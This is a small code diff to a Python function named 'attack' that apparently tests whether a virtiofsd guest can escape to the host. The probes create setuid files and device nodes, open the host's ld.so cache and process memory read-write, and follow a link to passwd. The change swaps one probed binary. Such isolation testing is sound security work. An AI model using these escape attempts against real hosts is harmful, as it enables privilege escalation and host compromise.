@@ -96,7 +96,7 @@ def attack(guest: Guest, virtiofsd: int) -> dict[str, int]:
         "suid": guest.ask(MKNOD, 1, struct.pack("<IIII", 0o104755, 0, 0, 0) + b"suid\0")[0],
         "device": guest.ask(MKNOD, 1, struct.pack("<IIII", 0o020666, 0x103, 0, 0) + b"null\0")[0],
         "absolute": guest.open(guest.find(1, "/etc/ld.so.cache"), os.O_RDWR),
-        "python": guest.open(guest.find(1, "/usr/bin/python3"), os.O_RDONLY),
+        "program": guest.open(guest.find(1, "/usr/bin/env"), os.O_RDONLY),
         "memory": guest.open(guest.find(process, "mem"), os.O_RDWR),
         "through a link": guest.find(1, "link/passwd"),
     }
